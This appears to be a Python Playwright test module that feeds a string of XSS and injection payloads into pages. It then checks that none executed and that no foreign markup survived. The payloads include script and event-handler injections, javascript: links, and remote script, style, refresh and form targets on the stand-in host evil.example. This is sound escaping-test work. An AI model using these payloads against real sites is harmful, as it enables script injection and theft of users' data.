"""Text that tries everything, and a look whether a page let any of it in."""

from __future__ import annotations

from playwright.sync_api import Page

TRICKS = (
    "<script>window.ran=1;alert(1)</script>",
    '<img src=x onerror="window.ran=2;alert(2)">',
    "<svg onload=window.ran=3><animate onbegin=window.ran=3>",
    "\"><iframe srcdoc='<script>parent.ran=4</script>'></iframe>",
    "' autofocus onfocus='window.ran=5' x='",
    "</pre></td></script><script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    '<a href="javascript:window.ran=6">here</a> [here](javascript:window.ran=7) ![x](//evil.example/p.png)',
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<form action=//evil.example/><button>go</button></form>{{ 7 * 7 }}{% raw %}",
    "<template><b onclick=window.ran=8></template>\x00\u2028 data: x\n\nevent: over\ndata: y\n\n<!-- -->]]>",
)
EVIL = " ".join(TRICKS)


def check_tame(page: Page) -> None:
    """Nothing ran on a page, and there is no markup on it that is not ours."""
    assert page.evaluate("window.ran") is None, page.url
    assert page.evaluate("document.compatMode") == "CSS1Compat", page.url
    assert page.evaluate(FOREIGN) == [], page.url


FOREIGN = """() => [...document.querySelectorAll(
    "script, img, iframe, object, embed, link, base, style, template, animate, form, a, *")].filter(e =>
      [...e.attributes].some(a => a.name.startsWith("on") || a.name === "srcdoc" || a.name === "style")
      || ["IFRAME", "OBJECT", "EMBED", "BASE", "TEMPLATE"].includes(e.tagName)
      || e.tagName === "STYLE" && !(location.protocol === "file:" && e === document.querySelector("head > style"))
      || e.tagName === "SCRIPT" && e.getAttribute("src") !== "/static/view.js"
      || e.tagName === "LINK" && !["data:,", "/static/view.css", "/static/report.css"].includes(e.getAttribute("href"))
      || e.tagName === "IMG"
      || e.tagName === "A" && !/^[/#?]/.test(e.getAttribute("href") || "")
      || e.tagName === "FORM" && !e.getAttribute("action").startsWith("/")
  ).map(e => e.outerHTML.slice(0, 200))"""
"""Markup that is not ours. A report's file has one style sheet in it."""
